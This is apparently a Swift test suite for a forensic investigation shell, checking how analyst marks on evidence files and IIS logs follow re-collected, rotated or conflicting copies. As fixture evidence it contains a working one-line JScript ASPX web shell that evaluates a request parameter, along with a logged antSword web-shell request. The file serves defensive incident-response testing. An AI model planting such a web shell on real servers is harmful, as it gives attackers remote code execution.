import Foundation
@testable import InvestigationShell
import Testing

/// Where a mark shows after the case is reopened: on its own server's copy of a file only, and on a
/// re-collected copy of a grown log when the marked line still reads the same.
@Suite struct MarkPlacementTests {
    static let shell = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>\n"

    /// The same web shell dropped on two servers is two pieces of evidence: a mark on one server's copy does
    /// not show on the other's, and each can be marked on its own.
    @Test func aByteIdenticalFileOfAnotherServerDoesNotCarryTheMark() throws {
        let dir = try CaseFileTests.folder()
        for server in ["EXA", "EXB"] {
            let folder = dir.appendingPathComponent("ev/\(server)/C/inetpub/wwwroot/aspnet_client")
            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
            try Self.shell.write(to: folder.appendingPathComponent("status.aspx"), atomically: true, encoding: .utf8)
        }
        let casePath = dir.appendingPathComponent("d.case").path
        let a = TestShell()
        try a.run("load \(dir.appendingPathComponent("ev").path); case new \(casePath)")
        try a.run("mark EXA/C/inetpub/wwwroot/aspnet_client/status.aspx:1 as malicious --note 'EXA only'")
        #expect(try CaseFileTests.marks(a).map { $0["server"] as? String } == ["EXA"])

        let b = TestShell()
        try b.run("case open \(casePath); load \(dir.appendingPathComponent("ev/EXB").path) --server EXB")
        #expect(try CaseFileTests.marks(b).map { $0["event"] is NSNull } == [true], "EXB's copy is not the marked one")
        #expect(!(try b.run("timeline --marked malicious --json")).contains("status.aspx"))
        try b.run("mark aspnet_client/status.aspx:1 as suspicious")
        #expect(Set(try CaseFileTests.marks(b).map { $0["server"] as? String }) == ["EXA", "EXB"], "two marks, one per server")
    }

    /// A collected web file has no time of its own: its mark comes after the dated ones, not at the head of the story.
    @Test func anUndatedMarkComesAfterTheDatedOnes() throws {
        let dir = try CaseFileTests.folder()
        let t = TestShell()
        try t.run("load demo --quiet; case new \(dir.appendingPathComponent("u.case").path)")
        try t.run("mark EX01/C/inetpub/wwwroot/aspnet_client/supp0rt.aspx:1 as malicious")
        try t.run("mark Ecp/HttpProxy_2021030306-1.LOG:6 as suspicious")
        #expect(try CaseFileTests.marks(t).map { $0["label"] as? String } == ["suspicious", "malicious"])
    }

    /// A live log collected again later has grown: its marks follow to the new copy where the marked line
    /// reads as it did; where the line changed, the mark stays unplaced rather than landing on another event.
    @Test func aGrownLogKeepsItsMarksAnEditedOneDoesNot() throws {
        let dir = try CaseFileTests.folder()
        let source = HuntCommandTests.fixtures.appendingPathComponent("iis")
        let first = dir.appendingPathComponent("first"), grown = dir.appendingPathComponent("grown"), edited = dir.appendingPathComponent("edited")
        for d in [first, grown, edited] { try FileManager.default.copyItem(at: source, to: d) }
        let log = try #require(FileManager.default.subpaths(atPath: first.path)?.first { $0.hasSuffix(".log") })
        let casePath = dir.appendingPathComponent("g.case").path
        let a = TestShell()
        try a.run("load \(first.path); case new \(casePath)")
        // Split on line feeds as bytes: a CRLF is one Character to Swift, and a String split on "\n" keeps it whole.
        let lines = try String(contentsOf: first.appendingPathComponent(log), encoding: .utf8).unicodeScalars
            .split(separator: "\n", omittingEmptySubsequences: false).map { String(String.UnicodeScalarView($0)) }
        let marked = try #require(lines.indices.last { lines[$0].contains("POST") }) + 1
        try a.run("mark '\(log):\(marked)' as malicious --note 'the POST'")

        let appended = lines.joined(separator: "\n") + (lines.last == "" ? "" : "\n") + lines[marked - 1] + "\n"
        try appended.write(to: grown.appendingPathComponent(log), atomically: true, encoding: .utf8)
        let b = TestShell()
        try b.run("case open \(casePath)")
        #expect(try b.shown("load \(grown.path)").contains("case: 1 mark was made on another copy of files loaded now (same server and path, other content): 1 follows to this copy"))
        // In the other order (load, then case open), and with load --quiet, it is said too (reviewer: unsaid).
        let other = TestShell()
        try other.run("load \(grown.path)")
        #expect(try other.shown("case open \(casePath)").contains("1 follows to this copy"))
        let quiet = TestShell()
        try quiet.run("case open \(casePath)")
        try quiet.run("load \(grown.path) --quiet")
        #expect(quiet.output.stderr.contains("1 follows to this copy"), "\(quiet.output.stderr)")
        let placed = try #require(try CaseFileTests.marks(b).first)
        #expect(placed["recollected"] as? Bool == true && placed["event"] is Int)
        #expect(try b.shown("marks").contains("(re-collected)"))
        // Marked again on the new copy: one mark, moved there, its note kept.
        try b.run("mark '\(log):\(marked)' as suspicious --force")
        let moved = try CaseFileTests.marks(b)
        #expect(moved.count == 1 && moved[0]["recollected"] as? Bool == false && moved[0]["note"] as? String == "the POST")

        var changed = lines
        changed[marked - 1] = lines[marked - 1].replacingOccurrences(of: "POST", with: "GET")
        try changed.joined(separator: "\n").write(to: edited.appendingPathComponent(log), atomically: true, encoding: .utf8)
        let c = TestShell()
        try c.run("case open \(casePath)")
        #expect(try c.shown("load \(edited.path)").contains("0 follow to this copy (the same time and text), 1 does not (the marked line changed"))
        #expect(try CaseFileTests.marks(c).allSatisfy { $0["event"] is NSNull })

        // A line added before the marked one (reviewer): the mark follows its event to the next line, not the line
        // number to the request that now sits there.
        let shifted = dir.appendingPathComponent("shifted")
        try FileManager.default.copyItem(at: source, to: shifted)
        var inserted = lines
        inserted.insert(lines[marked - 2], at: marked - 2)
        try inserted.joined(separator: "\n").write(to: shifted.appendingPathComponent(log), atomically: true, encoding: .utf8)
        let d = TestShell()
        try d.run("case open \(casePath)")
        #expect(try d.shown("load \(shifted.path)").contains("1 follows to this copy"))
        let followed = try #require(try CaseFileTests.marks(d).first?["event"] as? Int)
        #expect(d.session.store.line(of: followed) == marked + 1)
    }

    /// A newer collection of a server: a log rotated and compressed since (`u_ex210304.log.gz`) is the same log, and
    /// its marks follow; a log aged out of it is not loaded, and `load` names the malicious marks on it (reviewer:
    /// both had fallen out of the report's count unsaid).
    @Test func aCompressedLogKeepsItsMarksAndAnAgedOutOneIsNamed() throws {
        let dir = try CaseFileTests.folder()
        let post = "10.0.10.12 POST /aspnet_client/discover.aspx - 443 - 130.255.189.21 antSword/v2.1 - 200 0 0 5"
        let first = try ShellHarness.iisEvidence(["2021-03-03 07:02:11 " + post], server: "MAIL01", in: dir.appendingPathComponent("c1"))
        try ShellHarness.iisEvidence(["2021-03-04 07:02:11 " + post], server: "MAIL01", in: dir.appendingPathComponent("c1"), name: "u_ex210304.log")
        let casePath = dir.appendingPathComponent("r.case").path
        let a = TestShell()
        try a.run("load '\(first.path)'; case new '\(casePath)'")
        try a.run("mark u_ex210303.log:3 u_ex210304.log:3 as malicious --note antSword")

        // The second collection: the 4 March log compressed, the 3 March one aged out.
        let second = try ShellHarness.iisEvidence(["2021-03-04 07:02:11 " + post], server: "MAIL01", in: dir.appendingPathComponent("c2"),
                                                  name: "u_ex210304.log")
        let gzip = Process()
        gzip.executableURL = URL(fileURLWithPath: "/usr/bin/gzip")
        gzip.arguments = [second.appendingPathComponent("MAIL01/inetpub/logs/LogFiles/W3SVC1/u_ex210304.log").path]
        try gzip.run()
        gzip.waitUntilExit()
        let b = TestShell()
        try b.run("case open '\(casePath)'")
        let said = try b.shown("load '\(second.path)'")
        #expect(said.contains("1 follows to this copy"), "\(said)")
        #expect(said.contains("case: 1 mark on MAIL01 is on a file not loaded (MAIL01/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log); "
                              + "malicious: MAIL01/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log:3; 'marks' lists it as not loaded"), "\(said)")
        #expect(try CaseFileTests.marks(b).filter { $0["event"] is Int }.count == 1)
    }

    /// Both copies of a log marked, each on its own (benign on the first, malicious on the grown one), then the grown
    /// one loaded alone: the first's mark follows onto an event with a mark of its own, which counts; the followed one
    /// is set aside and said to be (reviewer: both labels in `marks` and the report, the exports showed one).
    @Test func aFollowedMarkMeetingTheCopysOwnMarkIsSetAside() throws {
        let dir = try CaseFileTests.folder()
        let source = HuntCommandTests.fixtures.appendingPathComponent("iis")
        let first = dir.appendingPathComponent("first"), grown = dir.appendingPathComponent("grown")
        for d in [first, grown] { try FileManager.default.copyItem(at: source, to: d) }
        let log = try #require(FileManager.default.subpaths(atPath: first.path)?.first { $0.hasSuffix(".log") })
        let text = try String(contentsOf: first.appendingPathComponent(log), encoding: .utf8)
        // Collected again with a line before the others: no continuation of the first (its start differs), two logs.
        try ("#Remark: collected again\n" + text).write(to: grown.appendingPathComponent(log), atomically: true, encoding: .utf8)
        let casePath = dir.appendingPathComponent("s.case").path
        let a = TestShell()
        try a.run("case new \(casePath); load \(first.path); load \(grown.path)")
        let post = try Self.rows(a, "timeline --json --contains POST").map { $0["event"] as! Int }.sorted()
        try #require(post.count % 2 == 0 && post.count > 0)
        // The last POST of each copy: the same request.
        try a.run("mark \(post[post.count / 2 - 1]) as benign --note 'first copy'; mark \(post[post.count - 1]) as malicious --note 'grown copy'")

        let b = TestShell()
        try b.run("case open \(casePath)")
        #expect(try b.shown("load \(grown.path)").contains("of which 1 meets a mark made on this copy, which counts ('marks' lists both)"))
        let marked = try Self.rows(b, "timeline --json --marked")
        #expect(marked.count == 1 && (marked[0]["mark"] as? [String: Any])?["label"] as? String == "malicious")
        let listed = try CaseFileTests.marks(b)
        #expect(listed.map { $0["set_aside"] as? Bool } == [true, false] || listed.map { $0["set_aside"] as? Bool } == [false, true])
        #expect(try b.shown("marks").contains("set aside: this copy's mark counts"))
        let report = dir.appendingPathComponent("r.md").path
        try b.run("report \(report)")
        #expect(try String(contentsOfFile: report, encoding: .utf8).contains("(set aside: the mark made on the copy loaded counts)"))
    }

    static func rows(_ t: TestShell, _ line: String) throws -> [[String: Any]] {
        try t.run(line).split(separator: "\n").map { try JSONSerialization.jsonObject(with: Data($0.utf8)) as! [String: Any] }
    }
}
